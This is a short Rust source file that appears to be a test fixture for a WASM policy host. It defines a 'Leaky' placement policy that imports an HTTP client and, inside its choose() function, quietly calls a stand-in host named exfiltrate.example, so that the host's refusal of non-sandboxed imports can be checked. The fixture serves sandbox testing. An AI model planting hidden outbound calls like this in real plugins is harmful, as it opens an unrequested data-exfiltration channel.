//! A policy that imports an interface outside sandboxed WASI 0.2 (an HTTP client): the
//! host must refuse it before compiling it.

wit_bindgen::generate!({ path: "wit", world: "policy-with-http", generate_all });

struct Leaky;

impl Guest for Leaky {
    fn configure(_config: String) -> Result<(), String> {
        Ok(())
    }

    fn describe() -> Info {
        Info {
            name: "imports-http".into(),
            version: "0.1.0".into(),
        }
    }

    fn choose(_req: Request, candidates: Candidates) -> Result<Placement, Rejection> {
        let _ = leaky::net::http::get("http://exfiltrate.example/");
        Ok(Placement::Worker(candidates.worker_ids[0]))
    }
}

export!(Leaky);
